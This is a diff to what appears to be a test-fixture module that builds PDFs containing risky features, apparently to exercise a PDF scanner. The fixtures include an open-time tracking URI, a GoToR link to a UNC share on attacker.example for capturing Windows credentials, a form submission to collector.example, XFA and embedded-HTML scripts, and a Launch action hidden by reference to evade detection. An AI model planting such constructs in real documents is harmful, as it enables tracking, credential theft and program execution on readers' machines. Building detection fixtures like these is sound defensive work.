@@ -3,7 +3,15 @@
 import io
 
 from pypdf import PdfWriter
-from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import (
+    ArrayObject,
+    DecodedStreamObject,
+    DictionaryObject,
+    FloatObject,
+    NameObject,
+    NumberObject,
+    TextStringObject,
+)
 
 
 def _write(writer):
@@ -56,4 +64,140 @@ def pdf_with_page_action():
     writer = PdfWriter()
     page = writer.add_blank_page(595, 842)
     page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _javascript_action()})
+    return _write(writer)
+
+
+def _name(value):
+    return NameObject(value)
+
+
+def _dictionary(**entries):
+    """A PDF dictionary from keyword arguments, each key written without its slash."""
+    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})
+
+
+def _stream(data, **entries):
+    stream = DecodedStreamObject()
+    stream.set_data(data)
+    stream.update(_dictionary(**entries))
+    return stream
+
+
+def _rect(*numbers):
+    return ArrayObject(FloatObject(number) for number in numbers)
+
+
+def _with_annotation(writer, page, annotation):
+    reference = writer._add_object(annotation)
+    page[NameObject("/Annots")] = ArrayObject([reference])
+    return reference
+
+
+def pdf_with_open_action_link():
+    """An address visited when the file opens: the sender learns who opened it."""
+    writer = PdfWriter()
+    writer.add_blank_page(595, 842)
+    writer._root_object[NameObject("/OpenAction")] = _dictionary(
+        S=_name("/URI"), URI=TextStringObject("https://tracker.example/opened?form=1")
+    )
+    return _write(writer)
+
+
+def pdf_with_remote_link():
+    """A link opening a file on a network share (GoToR to a UNC path): following it
+    can send the reader's Windows credentials to that server."""
+    writer = PdfWriter()
+    page = writer.add_blank_page(595, 842)
+    action = _dictionary(
+        S=_name("/GoToR"),
+        F=TextStringObject(r"\\attacker.example\share\form.pdf"),
+        D=ArrayObject([NumberObject(0), _name("/Fit")]),
+    )
+    _with_annotation(
+        writer,
+        page,
+        _dictionary(
+            Type=_name("/Annot"), Subtype=_name("/Link"), Rect=_rect(72, 700, 300, 715), A=action
+        ),
+    )
+    return _write(writer)
+
+
+def pdf_with_submit_button():
+    """A push button that sends the filled-in form to another server."""
+    writer = PdfWriter()
+    page = writer.add_blank_page(595, 842)
+    action = _dictionary(
+        S=_name("/SubmitForm"),
+        F=_dictionary(FS=_name("/URL"), F=TextStringObject("https://collector.example/form")),
+    )
+    button = _with_annotation(
+        writer,
+        page,
+        _dictionary(
+            Type=_name("/Annot"),
+            Subtype=_name("/Widget"),
+            FT=_name("/Btn"),
+            Ff=NumberObject(1 << 16),
+            T=TextStringObject("send"),
+            Rect=_rect(72, 100, 172, 130),
+            A=action,
+        ),
+    )
+    writer._root_object[NameObject("/AcroForm")] = _dictionary(Fields=ArrayObject([button]))
+    return _write(writer)
+
+
+XFA_SCRIPT = b"""<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">
+<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
+<subform name="form1"><event activity="initialize">
+<script contentType="application/x-javascript">app.alert("xfa");</script>
+</event></subform></template></xdp:xdp>"""
+
+
+def pdf_with_xfa_script():
+    """An AcroForm whose XFA stream holds a script, with no /JS key anywhere."""
+    writer = PdfWriter()
+    writer.add_blank_page(595, 842)
+    xfa = writer._add_object(_stream(XFA_SCRIPT))
+    writer._root_object[NameObject("/AcroForm")] = _dictionary(Fields=ArrayObject(), XFA=xfa)
+    return _write(writer)
+
+
+def pdf_with_embedded_html():
+    """An HTML page attached to the document through its name tree."""
+    writer = PdfWriter()
+    writer.add_blank_page(595, 842)
+    html = writer._add_object(
+        _stream(b"<html><script>alert(1)</script></html>", Type=_name("/EmbeddedFile"))
+    )
+    filespec = _dictionary(
+        Type=_name("/Filespec"), F=TextStringObject("guide.html"), EF=_dictionary(F=html)
+    )
+    writer._root_object[NameObject("/Names")] = _dictionary(
+        EmbeddedFiles=_dictionary(
+            Names=ArrayObject([TextStringObject("guide.html"), writer._add_object(filespec)])
+        )
+    )
+    return _write(writer)
+
+
+def pdf_with_launch_by_reference():
+    """A link starting a program, its action type stored as a separate object so that
+    a look at the action dictionary's own values does not see the name."""
+    writer = PdfWriter()
+    page = writer.add_blank_page(595, 842)
+    action = _dictionary(
+        S=writer._add_object(_name("/Launch")), F=TextStringObject("C:\\Windows\\calc.exe")
+    )
+    _with_annotation(
+        writer,
+        page,
+        _dictionary(
+            Type=_name("/Annot"),
+            Subtype=_name("/Link"),
+            Rect=_rect(72, 700, 300, 715),
+            A=writer._add_object(action),
+        ),
+    )
     return _write(writer)
